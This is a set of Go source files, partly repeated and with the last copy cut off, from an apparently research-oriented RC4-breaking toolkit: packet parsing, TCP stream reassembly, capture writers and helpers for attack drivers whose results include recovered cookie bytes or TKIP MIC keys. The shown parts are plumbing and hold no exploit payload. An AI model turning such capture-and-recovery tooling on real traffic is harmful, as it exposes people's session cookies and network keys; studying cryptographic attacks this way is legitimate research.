	// len = 4 + 4 (present) + 8 (TSFT, aligned) + 1 (flags) + 3 pad = 20.
	hdr := make([]byte, 20)
	hdr[2] = 20
	hdr[4] = 0x03 // TSFT | flags
	hdr[16] = 0x10
	frame := append(hdr, []byte("80211-frame-bytes-plusFCS!")...)
	got, fcs, err := SplitRadiotap(frame)
	if err != nil {
		t.Fatal(err)
	}
	if !fcs {
		t.Fatal("FCS flag not decoded")
	}
	if !bytes.Equal(got, []byte("80211-frame-bytes-plusFCS!")) {
		t.Fatalf("frame split wrong: %q", got)
	}
	// FCS stripping happens in ParseMPDU.
	m := make([]byte, 44)
	m[0], m[1] = 0x08, 0x40
	m[24+0] = 0x00
	m[24+1] = 0x20
	m[24+3] = 0x20
	mp, err := ParseMPDU(append(m, 1, 2, 3, 4), true)
	if err != nil {
		t.Fatal(err)
	}
	if len(mp.Body) != 44-24-8 {
		t.Fatalf("FCS not stripped: body %d bytes", len(mp.Body))
	}
}
