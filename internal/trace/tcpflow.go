package trace

import (
	"bytes"
	"encoding/binary"
	"errors"
	"sort"

	"rc4break/internal/packet"
)

// This file rebuilds TCP byte streams from captured packets — the first
// half of the §6.3 collection pipeline ("reassembling the TCP and TLS
// streams"). The assembler delivers each flow's payload bytes in sequence
// order, tolerating the quirks a real sniffer sees: out-of-order arrival,
// retransmitted duplicates, and partially overlapping segments. The TLS
// framing on top is the caller's concern (tlsrec.Scanner).

// Per-packet classification errors for the IP/TCP path, mirroring the
// 802.11 soft errors: captures carry ARP, UDP, ICMP and friends, which
// collectors count and skip.
var (
	ErrNotTCP = errors.New("trace: packet is not IPv4 TCP")
	// ErrReassemblyWindow reports a flow whose out-of-order backlog
	// exceeded the assembler's buffer cap — an unfillable sequence hole
	// (lost capture bytes), surfaced as an error instead of unbounded
	// buffering or silent stream corruption.
	ErrReassemblyWindow = errors.New("trace: TCP reassembly window exceeded (capture is missing stream bytes)")
)

// FlowKey identifies one direction of a TCP connection.
type FlowKey struct {
	SrcIP, DstIP     [4]byte
	SrcPort, DstPort uint16
}

// Segment is one parsed TCP segment.
type Segment struct {
	Key      FlowKey
	Seq      uint32
	SYN, FIN bool
	Payload  []byte
}

// ParseTCPPacket extracts the TCP segment from one captured packet of the
// given link type (Ethernet, optionally 802.1Q-tagged, or raw IPv4).
// Non-TCP traffic yields ErrNotTCP; truncated or inconsistent headers
// yield the packet package's typed errors.
func ParseTCPPacket(linkType uint32, data []byte) (Segment, error) {
	switch linkType {
	case LinkTypeEthernet:
		if len(data) < 14 {
			return Segment{}, packet.ErrTruncated
		}
		etherType := binary.BigEndian.Uint16(data[12:14])
		data = data[14:]
		if etherType == 0x8100 { // one VLAN tag
			if len(data) < 4 {
				return Segment{}, packet.ErrTruncated
			}
			etherType = binary.BigEndian.Uint16(data[2:4])
			data = data[4:]
		}
		if etherType != 0x0800 {
			return Segment{}, ErrNotTCP
		}
	case LinkTypeRawIP:
	default:
		return Segment{}, &LinkTypeError{LinkType: linkType, Want: "Ethernet or raw IPv4"}
	}

	ip, err := packet.ParseIPv4(data)
	if err != nil {
		return Segment{}, err
	}
	if ip.Protocol != 6 {
		return Segment{}, ErrNotTCP
	}
	ihl, err := packet.IPv4HeaderLen(data)
	if err != nil {
		return Segment{}, err
	}
	// The IP total length bounds the segment — Ethernet pads short frames,
	// and trusting the captured length would feed padding into the stream.
	if int(ip.Length) < ihl || int(ip.Length) > len(data) {
		return Segment{}, packet.ErrHeaderLength
	}
	seg := data[ihl:ip.Length]
	tcp, err := packet.ParseTCP(seg)
	if err != nil {
		return Segment{}, err
	}
	dataOff, err := packet.TCPHeaderLen(seg)
	if err != nil {
		return Segment{}, err
	}
	var key FlowKey
	key.SrcIP, key.DstIP = ip.SrcIP, ip.DstIP
	key.SrcPort, key.DstPort = tcp.SrcPort, tcp.DstPort
	return Segment{
		Key:     key,
		Seq:     tcp.Seq,
		SYN:     tcp.Flags&0x02 != 0,
		FIN:     tcp.Flags&0x01 != 0,
		Payload: seg[dataOff:],
	}, nil
}

// flowState tracks one flow's reassembly cursor and out-of-order backlog.
type flowState struct {
	// synced reports whether the stream origin is known (a SYN fixed the
	// ISN, or the flow committed to its lowest buffered sequence). Until
	// then every segment is buffered: delivering eagerly from the first
	// segment seen would mis-start the stream whenever the capture
	// reordered the opening packets.
	synced bool
	// dead marks a flow abandoned after its reassembly window overflowed
	// (an unfillable hole); its segments are dropped from then on so one
	// broken flow cannot abort a whole multi-flow ingest.
	dead    bool
	nextSeq uint32
	// firstSeen anchors sequence-space comparisons among buffered
	// segments of an unsynced flow.
	firstSeen uint32
	// pending holds undelivered segments keyed by absolute sequence
	// number; segments are copied in (the caller's buffer is reused).
	pending      map[uint32][]byte
	pendingBytes int
}

// Assembler reorders TCP segments into contiguous per-flow byte streams.
// A flow's origin comes from its SYN when the capture holds one;
// SYN-less (mid-stream) flows buffer briefly and then commit to the
// lowest sequence number seen. Duplicates and already-delivered overlaps
// are trimmed away — first-received bytes win, the classic reassembly
// policy — and out-of-order segments are buffered until the hole before
// them fills. Callers must Flush after the last segment to drain flows
// that never synced.
type Assembler struct {
	// MaxBuffered caps each flow's out-of-order backlog in bytes
	// (default 4 MiB) — the streaming-memory guarantee for multi-gigabyte
	// traces. Exceeding it abandons the flow (its backlog is freed and
	// later segments are dropped) and returns ErrReassemblyWindow once,
	// so the caller can count the casualty and keep ingesting the
	// capture's other flows.
	MaxBuffered int
	// SyncBuffer caps how much an unsynced flow buffers while waiting
	// for its SYN (default 64 KiB); past it the flow commits to the
	// lowest buffered sequence as the stream origin.
	SyncBuffer int
	// Duplicates and OutOfOrder count retransmitted/overlapping segments
	// dropped or trimmed, and segments that arrived ahead of a hole.
	Duplicates uint64
	OutOfOrder uint64
	flows      map[FlowKey]*flowState
}

const (
	defaultMaxBuffered = 4 << 20
	defaultSyncBuffer  = 64 << 10
)

// Push feeds one segment, invoking deliver for every contiguous run of
// stream bytes this segment completes (possibly several, as buffered
// successors drain). Delivered bytes are only valid during the callback.
func (as *Assembler) Push(seg Segment, deliver func(key FlowKey, data []byte) error) error {
	if as.flows == nil {
		as.flows = make(map[FlowKey]*flowState)
	}
	f, ok := as.flows[seg.Key]
	if !ok {
		f = &flowState{firstSeen: seg.Seq}
		as.flows[seg.Key] = f
	}
	if f.dead {
		return nil // abandoned after a window overflow: drop silently
	}
	if seg.SYN && !f.synced {
		f.synced = true
		f.nextSeq = seg.Seq + 1 // SYN consumes one sequence number
	}
	seq := seg.Seq
	if seg.SYN {
		seq++ // any SYN payload (TCP Fast Open) starts after the SYN's own number
	}
	if len(seg.Payload) > 0 {
		// Fast path: a synced flow with no backlog receiving the next
		// in-order segment delivers without copying — the shape of nearly
		// every packet in a healthy capture.
		if f.synced && len(f.pending) == 0 && seq == f.nextSeq {
			if err := deliver(seg.Key, seg.Payload); err != nil {
				return err
			}
			f.nextSeq += uint32(len(seg.Payload))
			return nil
		}
		if err := as.buffer(f, seq, seg.Payload); err != nil {
			return err
		}
		if !f.synced {
			limit := as.SyncBuffer
			if limit <= 0 {
				limit = defaultSyncBuffer
			}
			if f.pendingBytes > limit {
				f.commit() // no SYN coming: lowest sequence is the origin
			}
		}
	}
	if !f.synced {
		return nil
	}
	return as.drain(f, seg.Key, deliver)
}

// Flush drains flows that never learned their origin from a SYN —
// mid-stream captures — by committing each to its lowest buffered
// sequence. Call it once after the capture's last segment. Flows drain in
// a deterministic (sorted-key) order: two ingests of the same capture
// must deliver identical byte sequences, whatever Go's map iteration
// order does — the byte-identical re-capture contract depends on it.
func (as *Assembler) Flush(deliver func(key FlowKey, data []byte) error) error {
	var keys []FlowKey
	for key, f := range as.flows {
		if f.synced || f.dead || len(f.pending) == 0 {
			continue
		}
		keys = append(keys, key)
	}
	sort.Slice(keys, func(i, j int) bool { return keys[i].less(keys[j]) })
	for _, key := range keys {
		f := as.flows[key]
		f.commit()
		if err := as.drain(f, key, deliver); err != nil {
			return err
		}
	}
	return nil
}

// less orders flow keys lexicographically (addresses, then ports).
func (k FlowKey) less(o FlowKey) bool {
	if c := bytes.Compare(k.SrcIP[:], o.SrcIP[:]); c != 0 {
		return c < 0
	}
	if c := bytes.Compare(k.DstIP[:], o.DstIP[:]); c != 0 {
		return c < 0
	}
	if k.SrcPort != o.SrcPort {
		return k.SrcPort < o.SrcPort
	}
	return k.DstPort < o.DstPort
}

// buffer stores one segment's bytes for later in-order delivery. First
// arrival wins: a duplicate no longer than the buffered copy drops.
func (as *Assembler) buffer(f *flowState, seq uint32, data []byte) error {
	if f.synced {
		// Sequence-space comparison via signed 32-bit distance handles
		// wraparound the way TCP itself does.
		rel := int32(seq - f.nextSeq)
		if rel < 0 {
			if int(-rel) >= len(data) {
				as.Duplicates++ // pure retransmission of delivered bytes
				return nil
			}
			data = data[-rel:] // partial overlap: keep the delivered prefix
			seq = f.nextSeq
			as.Duplicates++
		} else if rel > 0 {
			as.OutOfOrder++
		}
	}
	if prev, dup := f.pending[seq]; dup {
		if len(data) <= len(prev) {
			as.Duplicates++
			return nil
		}
		f.pendingBytes -= len(prev)
	}
	max := as.MaxBuffered
	if max <= 0 {
		max = defaultMaxBuffered
	}
	if f.pendingBytes+len(data) > max {
		f.dead = true // free the backlog; later segments drop silently
		f.pending = nil
		f.pendingBytes = 0
		return ErrReassemblyWindow
	}
	if f.pending == nil {
		f.pending = make(map[uint32][]byte)
	}
	f.pending[seq] = append([]byte(nil), data...)
	f.pendingBytes += len(data)
	return nil
}

// commit fixes a SYN-less flow's origin at the lowest buffered sequence.
func (f *flowState) commit() {
	f.synced = true
	f.nextSeq = f.firstSeen
	for s := range f.pending {
		if int32(s-f.nextSeq) < 0 {
			f.nextSeq = s
		}
	}
}

// drain delivers every buffered run the cursor has reached, trimming
// overlaps against already-delivered bytes.
func (as *Assembler) drain(f *flowState, key FlowKey, deliver func(key FlowKey, data []byte) error) error {
	for len(f.pending) > 0 {
		advanced := false
		for s, d := range f.pending {
			rel := int32(s - f.nextSeq)
			if rel > 0 {
				continue
			}
			delete(f.pending, s)
			f.pendingBytes -= len(d)
			if int(-rel) >= len(d) {
				as.Duplicates++ // fully covered while it waited
				advanced = true
				break
			}
			d = d[-rel:]
			if err := deliver(key, d); err != nil {
				return err
			}
			f.nextSeq += uint32(len(d))
			advanced = true
			break
		}
		if !advanced {
			return nil
		}
	}
	return nil
}

// TCPStreamWriter emits one direction of a TCP connection as captured
// packets: the stream bytes are cut into MSS-sized segments wrapped in
// correct IPv4/TCP headers (checksums included) and, for Ethernet link
// types, an Ethernet II header. Sequence numbers advance with the stream,
// so the packets reassemble back into exactly the bytes written.
type TCPStreamWriter struct {
	w        PacketWriter
	linkType uint32
	// Flow is the emitted direction's addressing.
	Flow FlowKey
	// SrcMAC and DstMAC fill the Ethernet header when the link type is
	// Ethernet.
	SrcMAC, DstMAC [6]byte
	// MSS caps each segment's payload (default 1460).
	MSS     int
	seq     uint32
	id      uint16
	started bool
}

// NewTCPStreamWriter creates a stream writer over a packet writer opened
// with linkType LinkTypeEthernet or LinkTypeRawIP.
func NewTCPStreamWriter(w PacketWriter, linkType uint32, flow FlowKey) (*TCPStreamWriter, error) {
	switch linkType {
	case LinkTypeEthernet, LinkTypeRawIP:
	default:
		return nil, &LinkTypeError{LinkType: linkType, Want: "Ethernet or raw IPv4"}
	}
	return &TCPStreamWriter{
		w:        w,
		linkType: linkType,
		Flow:     flow,
		SrcMAC:   [6]byte{0x02, 0, 0, 0, 0, 1},
		DstMAC:   [6]byte{0x02, 0, 0, 0, 0, 2},
		MSS:      1460,
		seq:      1, // deterministic ISN; the assembler syncs mid-stream anyway
	}, nil
}

// SkipSequence advances the writer's TCP sequence number by n stream
// bytes without emitting packets — how a shard file that continues an
// earlier shard's stream keeps its segments reassemblable as one flow.
// A continuation writer never emits a SYN: the stream it joins already
// started in an earlier shard.
func (sw *TCPStreamWriter) SkipSequence(n uint64) {
	sw.seq += uint32(n) // TCP sequence space wraps by definition
	sw.started = true
}

// WriteStream appends stream bytes, emitting as many segments as needed.
// The first call emits the connection's SYN first, so reassembly learns
// the stream origin even when the capture reorders the opening packets.
func (sw *TCPStreamWriter) WriteStream(b []byte) error {
	if !sw.started {
		sw.started = true
		syn := packet.TCP{
			SrcPort: sw.Flow.SrcPort,
			DstPort: sw.Flow.DstPort,
			Seq:     sw.seq - 1, // SYN consumes the sequence number before the data
			Flags:   0x02,
			Window:  29200,
		}
		if err := sw.writePacket(syn, nil); err != nil {
			return err
		}
	}
	mss := sw.MSS
	if mss <= 0 {
		mss = 1460
	}
	for len(b) > 0 {
		n := len(b)
		if n > mss {
			n = mss
		}
		if err := sw.writeSegment(b[:n]); err != nil {
			return err
		}
		b = b[n:]
	}
	return nil
}

func (sw *TCPStreamWriter) writeSegment(payload []byte) error {
	tcp := packet.TCP{
		SrcPort: sw.Flow.SrcPort,
		DstPort: sw.Flow.DstPort,
		Seq:     sw.seq,
		Flags:   0x18, // PSH|ACK
		Window:  29200,
	}
	sw.seq += uint32(len(payload))
	return sw.writePacket(tcp, payload)
}

func (sw *TCPStreamWriter) writePacket(tcp packet.TCP, payload []byte) error {
	ip := packet.IPv4{
		TTL:      64,
		Protocol: 6,
		SrcIP:    sw.Flow.SrcIP,
		DstIP:    sw.Flow.DstIP,
		ID:       sw.id,
		Length:   uint16(packet.IPv4Size + packet.TCPSize + len(payload)),
	}
	sw.id++
	ipHdr := ip.Marshal()
	tcpHdr := tcp.Marshal(ip.SrcIP, ip.DstIP, payload)

	pkt := make([]byte, 0, 14+len(ipHdr)+len(tcpHdr)+len(payload))
	if sw.linkType == LinkTypeEthernet {
		pkt = append(pkt, sw.DstMAC[:]...)
		pkt = append(pkt, sw.SrcMAC[:]...)
		pkt = append(pkt, 0x08, 0x00)
	}
	pkt = append(pkt, ipHdr[:]...)
	pkt = append(pkt, tcpHdr[:]...)
	pkt = append(pkt, payload...)
	return sw.w.WritePacket(pkt)
}
