package cliutil

import (
	"os"
	"path/filepath"
	"testing"
)

func TestExpandGlobs(t *testing.T) {
	dir := t.TempDir()
	for _, name := range []string{"s-002.pcap", "s-000.pcap", "s-001.pcap"} {
		if err := os.WriteFile(filepath.Join(dir, name), nil, 0o644); err != nil {
			t.Fatal(err)
		}
	}
	got, err := ExpandGlobs(filepath.Join(dir, "s-*.pcap"))
	if err != nil {
		t.Fatal(err)
	}
	want := []string{
		filepath.Join(dir, "s-000.pcap"),
		filepath.Join(dir, "s-001.pcap"),
		filepath.Join(dir, "s-002.pcap"),
	}
	if len(got) != len(want) {
		t.Fatalf("got %v", got)
	}
	for i := range want {
		if got[i] != want[i] {
			t.Fatalf("shard order wrong: got %v", got)
		}
	}

	// Plain paths pass through, even when absent (the open fails later
	// with a useful error); an empty glob is an error now.
	if _, err := ExpandGlobs("no/such/file.pcap"); err != nil {
		t.Fatalf("plain path rejected: %v", err)
	}
	if _, err := ExpandGlobs(filepath.Join(dir, "nope-*.pcap")); err == nil {
		t.Fatal("empty glob accepted")
	}
	if _, err := ExpandGlobs(""); err == nil {
		t.Fatal("empty list accepted")
	}
}

func TestTraceStreamSeed(t *testing.T) {
	a := TraceStreamSeed([]string{"x.pcap", "y.pcap"})
	if b := TraceStreamSeed([]string{"x.pcap", "y.pcap"}); a != b {
		t.Fatal("same file set produced different seeds")
	}
	if b := TraceStreamSeed([]string{"y.pcap", "x.pcap"}); a == b {
		t.Fatal("reordered file set produced the same seed")
	}
	if b := TraceStreamSeed([]string{"x.pcap"}); a == b {
		t.Fatal("different file set produced the same seed")
	}
}
