package cliutil

import (
	"encoding/hex"
	"encoding/json"
	"io"
	"os"

	"rc4break/internal/online"
)

// RunResult is the machine-readable outcome of one attack run — what the
// drivers emit under -json so fleet tooling and experiments consume results
// structurally instead of scraping the human-readable narrative. One JSON
// object per run, written as the final stdout line.
type RunResult struct {
	// Attack is "cookie" or "tkip"; Mode is the collection mode.
	Attack string `json:"attack"`
	Mode   string `json:"mode"`
	// Job and Tenant identify the run inside a multi-tenant service
	// (cmd/attackd); the single-run CLIs leave them empty, and omitempty
	// keeps their output byte-identical to the pre-service schema.
	Job    string `json:"job,omitempty"`
	Tenant string `json:"tenant,omitempty"`
	// Online reports whether the closed-loop runtime drove the run.
	Online bool `json:"online"`
	// Success is false on budget exhaustion or a missing candidate.
	Success bool `json:"success"`
	// Plaintext is the hex-encoded recovered value (cookie bytes or MIC
	// key) on success.
	Plaintext string `json:"plaintext,omitempty"`
	// Rank is the confirmed candidate's 1-based list position.
	Rank int `json:"rank,omitempty"`
	// Observations is the records/frames folded into the evidence at the
	// end of the run — the records-to-success metric for online runs.
	Observations uint64 `json:"observations"`
	// Rounds, Checks and Skipped describe the online decode loop (zero for
	// offline runs, whose single decode is implicit).
	Rounds  int    `json:"rounds,omitempty"`
	Checks  uint64 `json:"checks,omitempty"`
	Skipped uint64 `json:"skipped,omitempty"`
	// ParseMBps and IngestMBps split a trace-mode run's capture throughput:
	// ParseMBps is the parse-bound ceiling (container parsing, reassembly
	// and record scanning with no attack attached) and IngestMBps is the
	// full parse+fold pipeline. Both are measured over the same capture
	// bytes, so their gap is the evidence-folding cost.
	ParseMBps  float64 `json:"parse_mbps,omitempty"`
	IngestMBps float64 `json:"ingest_mbps,omitempty"`
	// CaptureMS/DecodeMS/OracleMS split the wall clock by phase; offline
	// paths that do not separate decode from oracle report the combined
	// time as DecodeMS.
	CaptureMS float64 `json:"capture_ms"`
	DecodeMS  float64 `json:"decode_ms"`
	OracleMS  float64 `json:"oracle_ms"`
	ElapsedMS float64 `json:"elapsed_ms"`
	// Error carries the failure reason when Success is false.
	Error string `json:"error,omitempty"`
}

// OnlineRunResult converts an online.Run outcome into the JSON result shape.
func OnlineRunResult(attack, mode string, res online.Result, err error) RunResult {
	r := RunResult{
		Attack:       attack,
		Mode:         mode,
		Online:       true,
		Success:      err == nil,
		Rank:         res.Rank,
		Observations: res.Observed,
		Rounds:       res.Rounds,
		Checks:       res.Checks,
		Skipped:      res.Skipped,
		CaptureMS:    float64(res.CaptureTime.Microseconds()) / 1000,
		DecodeMS:     float64(res.DecodeTime.Microseconds()) / 1000,
		OracleMS:     float64(res.OracleTime.Microseconds()) / 1000,
		ElapsedMS:    float64(res.Elapsed.Microseconds()) / 1000,
	}
	if err == nil {
		r.Plaintext = hex.EncodeToString(res.Plaintext)
	} else {
		r.Error = err.Error()
	}
	return r
}

// Write emits the result as one JSON line.
func (r RunResult) Write(w io.Writer) error {
	enc := json.NewEncoder(w)
	return enc.Encode(r)
}

// Emit writes the result to stdout when enabled (the drivers' -json flag)
// and is a no-op otherwise. Callers must invoke it after their last
// narrative output so the JSON line stays the final stdout line.
func (r RunResult) Emit(enabled bool) error {
	if !enabled {
		return nil
	}
	return r.Write(os.Stdout)
}
