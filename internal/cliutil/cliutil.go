// Package cliutil holds the small helpers the attack CLIs share, so the
// three drivers parse their common flags identically and run the same
// checkpointed-capture loop.
package cliutil

import (
	"errors"
	"fmt"
	"os"
	"os/signal"
	"path/filepath"
	"sort"
	"strings"
	"syscall"
)

// SplitList parses a comma-separated flag value, trimming whitespace and
// dropping empty entries (a trailing comma is not an error).
func SplitList(s string) []string {
	if s == "" {
		return nil
	}
	var out []string
	for _, p := range strings.Split(s, ",") {
		if p = strings.TrimSpace(p); p != "" {
			out = append(out, p)
		}
	}
	return out
}

// ExpandGlobs parses a comma-separated flag value of capture paths and
// globs into the ordered file list a trace ingest walks. Glob entries
// expand sorted (filepath.Glob order), so shard files named in sequence
// concatenate into one logical stream; an entry that matches nothing is an
// error — a silently empty shard would read as "covered" when it was not.
func ExpandGlobs(list string) ([]string, error) {
	var out []string
	for _, entry := range SplitList(list) {
		if !strings.ContainsAny(entry, "*?[") {
			out = append(out, entry)
			continue
		}
		matches, err := filepath.Glob(entry)
		if err != nil {
			return nil, fmt.Errorf("glob %q: %w", entry, err)
		}
		if len(matches) == 0 {
			return nil, fmt.Errorf("glob %q matched no files", entry)
		}
		sort.Strings(matches)
		out = append(out, matches...)
	}
	if len(out) == 0 {
		return nil, errors.New("no capture files named")
	}
	return out, nil
}

// TraceStreamSeed digests an ordered capture file list into the stream
// seed of a trace-fed shard's snapshot.StreamInfo: two shards ingested
// from the same file set share an identity (so -merge rejects the
// double-count), different sets get distinct ones. FNV-1a over the joined
// paths — an accident check, like the config fingerprints.
func TraceStreamSeed(paths []string) int64 {
	const offset64, prime64 = 14695981039346656037, 1099511628211
	h := uint64(offset64)
	for _, p := range paths {
		for i := 0; i < len(p); i++ {
			h = (h ^ uint64(p[i])) * prime64
		}
		h = (h ^ 0) * prime64 // path separator
	}
	return int64(h)
}

// ErrInterrupted is returned by CheckpointLoop.Run after a SIGINT/SIGTERM
// flush; drivers exit 130 on it.
var ErrInterrupted = errors.New("cliutil: capture interrupted")

// OnlineCheckpoint returns the Checkpoint hook the online attack drivers
// share: write the snapshot after every unsuccessful decode round (no-op
// when path is empty) and report it in the drivers' indented style.
func OnlineCheckpoint(path, unit string, save func(string) error, progress func() uint64) func() error {
	return func() error {
		if path == "" {
			return nil
		}
		if err := save(path); err != nil {
			return err
		}
		fmt.Printf("      checkpoint: %d %s -> %s\n", progress(), unit, path)
		return nil
	}
}

// IndentLogf prints a runtime progress line in the drivers' indented style
// — the online.Config Logf both attack CLIs use.
func IndentLogf(format string, args ...interface{}) {
	fmt.Printf("      "+format+"\n", args...)
}

// ContinuationSeed derives the RNG seed for a model-mode top-up that
// continues from observed records: the first chunk of a run uses the shard
// seed itself, and every later chunk derives a distinct stream from the
// continuation point so a resumed shard never replays noise draws already
// folded into its snapshot. Every model-mode driver (offline resume, the
// online runtime's cadence chunks, the experiments) must use this exact
// derivation — kill-and-resume determinism depends on it being
// bit-identical everywhere.
func ContinuationSeed(seed int64, observed uint64) int64 {
	if observed == 0 {
		return seed
	}
	return int64(uint64(seed) ^ observed*0x9E3779B97F4A7C15)
}

// LaneSeed derives the RNG seed for fleet capture lane `lane` of a run's
// base seed: every lane draws from its own stream, distinct from the base
// seed itself and from every other lane, and both the coordinator's
// single-process equivalent and any worker that captures the lane derive
// the identical seed — lane evidence is a pure function of (base seed,
// lane), which is what makes a re-leased lane's recapture byte-identical.
func LaneSeed(seed int64, lane uint64) int64 {
	return ContinuationSeed(seed, lane+1)
}

// CheckpointLoop is the capture-loop scaffolding the exact-mode drivers
// share: Step runs Iterations times; every time the progress counter
// advances Every steps past the last write (and Path is set), Save runs;
// SIGINT/SIGTERM flushes a final Save and returns ErrInterrupted, so a
// kill loses at most one checkpoint interval.
type CheckpointLoop struct {
	Iterations uint64
	Path       string        // checkpoint file; "" disables writes
	Every      uint64        // progress steps between periodic writes
	Unit       string        // progress unit for messages ("records", "frames")
	Save       func() error  // atomically writes the snapshot to Path
	Progress   func() uint64 // current progress counter
	Step       func() (advanced bool, err error)
}

// Run drives the loop. Status lines match the drivers' indented style.
func (l CheckpointLoop) Run() error {
	sig := make(chan os.Signal, 1)
	signal.Notify(sig, os.Interrupt, syscall.SIGTERM)
	defer signal.Stop(sig)

	var sinceWrite uint64
	for i := uint64(0); i < l.Iterations; i++ {
		select {
		case <-sig:
			if l.Path == "" {
				fmt.Printf("      interrupted at %d %s (no -checkpoint set; progress lost)\n", l.Progress(), l.Unit)
				return ErrInterrupted
			}
			if err := l.Save(); err != nil {
				return err
			}
			fmt.Printf("      interrupted: checkpoint flushed at %d %s -> %s (rerun with -resume %s)\n",
				l.Progress(), l.Unit, l.Path, l.Path)
			return ErrInterrupted
		default:
		}
		advanced, err := l.Step()
		if err != nil {
			return err
		}
		if advanced {
			sinceWrite++
		}
		if l.Path != "" && l.Every > 0 && sinceWrite >= l.Every {
			if err := l.Save(); err != nil {
				return err
			}
			fmt.Printf("      checkpoint: %d %s -> %s\n", l.Progress(), l.Unit, l.Path)
			sinceWrite = 0
		}
	}
	return nil
}
