// Package cliutil holds the small helpers the attack CLIs share, so the
// three drivers parse their common flags identically and run the same
// checkpointed-capture loop.
package cliutil

import (
	"errors"
	"fmt"
	"os"
	"os/signal"
	"strings"
	"syscall"
)

// SplitList parses a comma-separated flag value, trimming whitespace and
// dropping empty entries (a trailing comma is not an error).
func SplitList(s string) []string {
	if s == "" {
		return nil
	}
	var out []string
	for _, p := range strings.Split(s, ",") {
		if p = strings.TrimSpace(p); p != "" {
			out = append(out, p)
		}
	}
	return out
}

// ErrInterrupted is returned by CheckpointLoop.Run after a SIGINT/SIGTERM
// flush; drivers exit 130 on it.
var ErrInterrupted = errors.New("cliutil: capture interrupted")

// OnlineCheckpoint returns the Checkpoint hook the online attack drivers
// share: write the snapshot after every unsuccessful decode round (no-op
// when path is empty) and report it in the drivers' indented style.
func OnlineCheckpoint(path, unit string, save func(string) error, progress func() uint64) func() error {
	return func() error {
		if path == "" {
			return nil
		}
		if err := save(path); err != nil {
			return err
		}
		fmt.Printf("      checkpoint: %d %s -> %s\n", progress(), unit, path)
		return nil
	}
}

// IndentLogf prints a runtime progress line in the drivers' indented style
// — the online.Config Logf both attack CLIs use.
func IndentLogf(format string, args ...interface{}) {
	fmt.Printf("      "+format+"\n", args...)
}

// ContinuationSeed derives the RNG seed for a model-mode top-up that
// continues from observed records: the first chunk of a run uses the shard
// seed itself, and every later chunk derives a distinct stream from the
// continuation point so a resumed shard never replays noise draws already
// folded into its snapshot. Every model-mode driver (offline resume, the
// online runtime's cadence chunks, the experiments) must use this exact
// derivation — kill-and-resume determinism depends on it being
// bit-identical everywhere.
func ContinuationSeed(seed int64, observed uint64) int64 {
	if observed == 0 {
		return seed
	}
	return int64(uint64(seed) ^ observed*0x9E3779B97F4A7C15)
}

// LaneSeed derives the RNG seed for fleet capture lane `lane` of a run's
// base seed: every lane draws from its own stream, distinct from the base
// seed itself and from every other lane, and both the coordinator's
// single-process equivalent and any worker that captures the lane derive
// the identical seed — lane evidence is a pure function of (base seed,
// lane), which is what makes a re-leased lane's recapture byte-identical.
func LaneSeed(seed int64, lane uint64) int64 {
	return ContinuationSeed(seed, lane+1)
}

// CheckpointLoop is the capture-loop scaffolding the exact-mode drivers
// share: Step runs Iterations times; every time the progress counter
// advances Every steps past the last write (and Path is set), Save runs;
// SIGINT/SIGTERM flushes a final Save and returns ErrInterrupted, so a
// kill loses at most one checkpoint interval.
type CheckpointLoop struct {
	Iterations uint64
	Path       string        // checkpoint file; "" disables writes
	Every      uint64        // progress steps between periodic writes
	Unit       string        // progress unit for messages ("records", "frames")
	Save       func() error  // atomically writes the snapshot to Path
	Progress   func() uint64 // current progress counter
	Step       func() (advanced bool, err error)
}

// Run drives the loop. Status lines match the drivers' indented style.
func (l CheckpointLoop) Run() error {
	sig := make(chan os.Signal, 1)
	signal.Notify(sig, os.Interrupt, syscall.SIGTERM)
	defer signal.Stop(sig)

	var sinceWrite uint64
	for i := uint64(0); i < l.Iterations; i++ {
		select {
		case <-sig:
			if l.Path == "" {
				fmt.Printf("      interrupted at %d %s (no -checkpoint set; progress lost)\n", l.Progress(), l.Unit)
				return ErrInterrupted
			}
			if err := l.Save(); err != nil {
				return err
			}
			fmt.Printf("      interrupted: checkpoint flushed at %d %s -> %s (rerun with -resume %s)\n",
				l.Progress(), l.Unit, l.Path, l.Path)
			return ErrInterrupted
		default:
		}
		advanced, err := l.Step()
		if err != nil {
			return err
		}
		if advanced {
			sinceWrite++
		}
		if l.Path != "" && l.Every > 0 && sinceWrite >= l.Every {
			if err := l.Save(); err != nil {
				return err
			}
			fmt.Printf("      checkpoint: %d %s -> %s\n", l.Progress(), l.Unit, l.Path)
			sinceWrite = 0
		}
	}
	return nil
}
