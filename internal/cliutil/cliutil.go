// Package cliutil holds the small helpers the attack CLIs share, so the
// three drivers parse their common flags identically and run the same
// checkpointed-capture loop.
package cliutil

import (
	"errors"
	"fmt"
	"os"
	"os/signal"
	"strings"
	"syscall"
)

// SplitList parses a comma-separated flag value, trimming whitespace and
// dropping empty entries (a trailing comma is not an error).
func SplitList(s string) []string {
	if s == "" {
		return nil
	}
	var out []string
	for _, p := range strings.Split(s, ",") {
		if p = strings.TrimSpace(p); p != "" {
			out = append(out, p)
		}
	}
	return out
}

// ErrInterrupted is returned by CheckpointLoop.Run after a SIGINT/SIGTERM
// flush; drivers exit 130 on it.
var ErrInterrupted = errors.New("cliutil: capture interrupted")

// CheckpointLoop is the capture-loop scaffolding the exact-mode drivers
// share: Step runs Iterations times; every time the progress counter
// advances Every steps past the last write (and Path is set), Save runs;
// SIGINT/SIGTERM flushes a final Save and returns ErrInterrupted, so a
// kill loses at most one checkpoint interval.
type CheckpointLoop struct {
	Iterations uint64
	Path       string        // checkpoint file; "" disables writes
	Every      uint64        // progress steps between periodic writes
	Unit       string        // progress unit for messages ("records", "frames")
	Save       func() error  // atomically writes the snapshot to Path
	Progress   func() uint64 // current progress counter
	Step       func() (advanced bool, err error)
}

// Run drives the loop. Status lines match the drivers' indented style.
func (l CheckpointLoop) Run() error {
	sig := make(chan os.Signal, 1)
	signal.Notify(sig, os.Interrupt, syscall.SIGTERM)
	defer signal.Stop(sig)

	var sinceWrite uint64
	for i := uint64(0); i < l.Iterations; i++ {
		select {
		case <-sig:
			if l.Path == "" {
				fmt.Printf("      interrupted at %d %s (no -checkpoint set; progress lost)\n", l.Progress(), l.Unit)
				return ErrInterrupted
			}
			if err := l.Save(); err != nil {
				return err
			}
			fmt.Printf("      interrupted: checkpoint flushed at %d %s -> %s (rerun with -resume %s)\n",
				l.Progress(), l.Unit, l.Path, l.Path)
			return ErrInterrupted
		default:
		}
		advanced, err := l.Step()
		if err != nil {
			return err
		}
		if advanced {
			sinceWrite++
		}
		if l.Path != "" && l.Every > 0 && sinceWrite >= l.Every {
			if err := l.Save(); err != nil {
				return err
			}
